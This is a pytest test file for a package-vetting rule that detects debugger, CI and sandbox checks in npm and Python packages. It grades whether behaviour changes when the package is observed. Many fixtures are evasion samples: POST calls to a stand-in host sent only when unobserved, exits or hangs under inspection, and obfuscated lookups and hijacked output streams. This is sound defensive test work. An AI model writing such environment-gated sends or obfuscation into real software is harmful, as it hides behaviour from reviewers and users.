"""Looks for a debugger or a sandbox on which only hangs what is printed, and those on which more does."""

import pytest

from tests.checks.conftest import fresh, lines, npm, wheel
from tests.factories import subject
from vetting.checks import Context
from vetting.checks.static_rules import StaticRules

HEAD = "import inspector from 'node:inspector';\nimport os from 'node:os';\n"
ASKS = "const asked = () => inspector.url() === undefined && !process.env.CI;\n"
SAYS = "function says() {\n  if (!asked()) return;\n  console.error(`up for ${process.uptime()}`);\n}\n"
STARTS = "setTimeout(says, 3600).unref();\n"
TABLE = (
    "const loud = () => { console.error('x'); return { page: 50 }; };\n"
    "const steps = { quiet: () => ({ page: 10 }), loud };\n"
)
TUNE = "export const tune = () => steps[asked() ? 'loud' : 'quiet']();\n"
USES = "const { page } = tune();\nexport const list = (q) => fetch(`${BASE}/list?limit=${page}&q=${q}`);\n"
SERVER = "import { tune } from './look.js';\nconst BASE = 'https://a.example';\n" + USES
SEND = "fetch('https://a.example', { method: 'POST' })"


def severity(context: Context, source: str, **others: str) -> list[str]:
    files = {"package.json": '{"name": "server"}', "look.js": source}
    files |= {name.replace("_", "."): text for name, text in others.items()}
    found = lines(StaticRules().run(npm(files), fresh(context)))
    return [line.split()[0] for line in found if "text/sandbox-probe look.js" in line]


@pytest.mark.parametrize(
    "source",
    [
        HEAD + ASKS + SAYS + STARTS,
        HEAD + ASKS + "if (asked()) console.warn('somebody looks');\n",
        HEAD
        + ASKS
        + "function main(port) {\n  serve(port);\n  if (asked()) { console.warn('x'); }\n}\nmain(1);\n",
        HEAD + "const traits = { a: () => inspector.url() === undefined };\n"
        "const all = () => Object.values(traits).filter((test) => test()).length;\nconsole.error(all());\n",
        "const inspector = require('node:inspector');\n" + ASKS + SAYS + STARTS,
        HEAD + ASKS + TABLE + TUNE + "const BASE = process.env.BASE;\n" + USES,
    ],
)
def test_only_more_is_printed(context: Context, source: str) -> None:
    assert severity(context, source) == ["low"]


@pytest.mark.parametrize(
    "source",
    [
        HEAD + ASKS + f"if (asked()) {SEND};\n",
        HEAD + ASKS + f"function says() {{\n  if (!asked()) return;\n  {SEND};\n}}\n" + STARTS,
        HEAD + ASKS + SAYS + STARTS + f"asked() && {SEND};\n",
        HEAD + ASKS + f"const at = [() => {SEND}];\nat.filter(asked).map((one) => one());\n",
        HEAD + ASKS + "if (!asked()) process.exit(0);\n",
        HEAD + ASKS + "while (!asked()) { }\n",
        HEAD + ASKS + "if (!asked()) throw new Error('no');\n",
        HEAD + ASKS + f"const kept = [];\nkept.push(asked());\nif (kept[0]) {SEND};\n",
        HEAD + ASKS + f"let on = false;\nif (asked()) on = true;\nif (on) {SEND};\n",
        HEAD + ASKS + f"process.env.ON = asked();\nif (process.env.ON) {SEND};\n",
        HEAD + ASKS + f"process.argv.push(asked());\nif (process.argv.at(-1)) {SEND};\n",
        HEAD + ASKS + f"process.argv.map((a, i, all) => all.push(asked()));\nif (x) {SEND};\n",
        HEAD
        + ASKS
        + f"const act = () => {{ if (asked()) {SEND}; [].map((fetch) => 0); }};\nact();\n",
        HEAD + ASKS + "const a = asked['constr' + 'uctor'];\nif (asked()) a('x')();\n",
        HEAD
        + ASKS
        + "const a = {}; const f = (k) => a[k][k]('x');\nf(asked() ? 'constructor' : 'x');\n",
        HEAD
        + ASKS
        + f"const x = {{ toString() {{ {SEND}; }} }};\nif (asked()) console.log(`${{x}}`);\n",
        HEAD + ASKS + f"function main() {{\n  if (asked()) return;\n  {SEND};\n}}\nmain();\n",
        HEAD + ASKS + f"const run = asked() ? () => {SEND} : () => 0;\nrun();\n",
        HEAD + ASKS + "eval('if (asked()) x()');\n",
        HEAD + ASKS + "export default asked;\n",
        HEAD + "export default () => inspector.url() === undefined;\n",
        HEAD + "export class A { on() { return inspector.url() === undefined; } }\n",
        HEAD.replace("node:inspector", "./inspector.js") + ASKS + SAYS + STARTS,
    ],
)
def test_more_hangs_on_it(context: Context, source: str) -> None:
    assert severity(context, source) == ["medium"]


BANNER = (
    HEAD
    + "const marks = () => [process.env.CI, inspector.url() !== undefined, !process.stderr.isTTY];\n"
    "const quiet = () => marks().some(Boolean);\n"
    "function banner() {\n  if (quiet()) {\n    console.error('x');\n    return;\n  }\n"
    "  console.error('\\x1b[36mx');\n}\n"
)
MAIN = "async function main() {\n  %s\n  await serve(1);\n}\nmain();\n"


@pytest.mark.parametrize(
    ("asks", "expected"),
    [
        ("banner();", "low"),
        ("if (banner()) return;", "medium"),
        ("if (quiet()) return;", "medium"),
        (f"quiet() || {SEND};", "medium"),
        (f"banner({SEND});", "medium"),
    ],
)
def test_one_caller_only_prints(context: Context, asks: str, expected: str) -> None:
    assert severity(context, BANNER + MAIN % asks) == [expected]


PYTHON = """import os
import sys
from pathlib import Path
import requests
MARKS = ("CI", "GITHUB_ACTIONS")
def quiet():
    marks = (
        sys.gettrace() is not None,
        any(k in os.environ for k in MARKS),
        Path("/.dockerenv").exists(),
        not sys.stderr.isatty(),
    )
    return any(marks)
def banner():
    if quiet():
        print("x", file=sys.stderr)
        return
    print("\\033[36mx", file=sys.stderr)
%s
def main():
    %s
    serve()
"""
AWAY = "requests.post('https://a.example', data='x')"


def python(context: Context, source: str, **others: str) -> list[str]:
    files = {"look.py": source, **{f"{name}.py": text for name, text in others.items()}}
    found = lines(StaticRules().run(subject(wheel(files)), fresh(context)))
    return [line.split()[0] for line in found if "text/sandbox-probe look.py" in line]


@pytest.mark.parametrize(
    ("above", "asks"),
    [
        ("", "banner()"),
        ("", "if quiet(): print('x')"),
        ("", "print('x' if quiet() else 'y')"),
        ("def width():\n    return 80 if quiet() else 120\n", "print('-' * width())"),
        ("def colours():\n    return not quiet()\n", "if not colours():\n        print('plain')"),
    ],
)
def test_only_more_is_printed_in_python(context: Context, above: str, asks: str) -> None:
    assert python(context, PYTHON % (above, asks)) == ["low"]


@pytest.mark.parametrize(
    ("above", "asks"),
    [
        ("", f"if not quiet(): {AWAY}"),
        ("", "if quiet(): return"),
        ("", "if quiet(): sys.exit(0)"),
        ("", f"still = quiet()\n    if not still: {AWAY}"),
        ("", f"quiet() or {AWAY}"),
        ("", f"[quiet] and {AWAY}"),
        ("", f"banner() or {AWAY}"),
        ("", "threading.Timer(quiet(), act)"),
        ("def asks():\n    return quiet()\n", f"if not asks(): {AWAY}"),
        (f"def asks():\n    if not quiet(): {AWAY}\n", "asks()"),
        ("STILL = quiet()\n", f"if not STILL: {AWAY}"),
        ("def print(text, **more): act(text)\n", "banner()"),
        ("class Any:\n    quiet = staticmethod(quiet)\n", f"Any.quiet() or {AWAY}"),
        ("", f"globals()['qui' + 'et']() or {AWAY}"),
        ("", f"sys.modules[__name__].quiet() or {AWAY}"),
        ("sys.stderr = Sender()\n", "banner()"),
        ("sys.stderr.write = send\n", "banner()"),
        ("def asks(out=sys.stderr):\n    out.write(str(quiet()))\n", "asks(Sender())"),
        ("def asks():\n    if not quiet(): raise OSError\n", "asks()"),
        ("def asks():\n    while not quiet(): pass\n", "asks()"),
        ("def asks():\n    MARKS[0] = quiet()\n", "asks()"),
        ("def asks():\n    global MARKS\n    MARKS = quiet()\n", "asks()"),
    ],
)
def test_more_hangs_on_it_in_python(context: Context, above: str, asks: str) -> None:
    assert python(context, PYTHON % (above, asks)) == ["medium"]


@pytest.mark.parametrize(
    ("other", "expected"),
    [
        ("from look import main\nmain()\n", "low"),
        (f"from look import quiet\nquiet() or {AWAY}\n", "medium"),
        (f"import look\nlook.quiet() or {AWAY}\n", "medium"),
        (f"import look\ngetattr(look, 'qui' + 'et')() or {AWAY}\n", "medium"),
        ("import builtins\nbuiltins.print = send\n", "medium"),
        ("import sys\nsys.stderr = Sender()\n", "medium"),
    ],
)
def test_what_another_module_does_with_an_answer(
    context: Context, other: str, expected: str
) -> None:
    assert python(context, PYTHON % ("", "banner()"), other=other) == [expected]


@pytest.mark.parametrize(
    ("server", "expected"),
    [
        (SERVER, "low"),
        ("import { list } from './list.js';\nlist();\n", "low"),
        (SERVER + f"if (page > 20) {SEND};\n", "medium"),
        (SERVER + f"const run = {{ 50: () => {SEND} }};\nrun[page]();\n", "medium"),
        (SERVER.replace("?limit=", "/"), "medium"),
        (SERVER.replace("{ tune }", "* as look").replace("tune()", "look.tune()"), "medium"),
        (SERVER.replace("tune()", f"tune(() => {SEND})"), "medium"),
        (SERVER.replace("'./look.js'", "'server/look.js'"), "medium"),
        (SERVER.replace("'./look.js'", "'#look'"), "medium"),
        (SERVER + f"import('./look.js').then((m) => m.tune().page > 20 && {SEND});\n", "medium"),
        (SERVER + "import('./lo' + 'ok.js').then(run);\n", "medium"),
        (SERVER + "export { tune } from './look.js';\n", "medium"),
        (SERVER + "export { page };\n", "medium"),
        (SERVER + "import './more.txt';\n", "medium"),
    ],
)
def test_what_another_file_does_with_an_answer(
    context: Context, server: str, expected: str
) -> None:
    assert severity(context, HEAD + ASKS + TABLE + TUNE, server_js=server) == [expected]
